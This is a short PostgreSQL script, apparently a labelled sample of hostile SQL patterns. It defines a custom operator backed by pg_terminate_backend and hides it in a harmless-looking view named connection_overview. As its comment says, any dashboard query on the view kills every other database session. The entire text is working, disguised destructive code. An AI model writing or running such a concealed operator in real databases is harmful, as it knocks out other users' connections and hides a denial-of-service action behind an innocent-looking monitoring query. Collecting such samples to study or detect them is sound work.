-- class: operator-cast-aggregate
-- An operator implemented by pg_terminate_backend, used in a view so that a dashboard query kills every other session.
CREATE OPERATOR public.!>> (LEFTARG = integer, RIGHTARG = bigint, FUNCTION = pg_terminate_backend);

CREATE VIEW connection_overview AS
SELECT pid, usename, state, (pid !>> 0::bigint) AS handled
FROM pg_stat_activity WHERE pid <> pg_backend_pid();

SELECT count(*) FROM connection_overview;
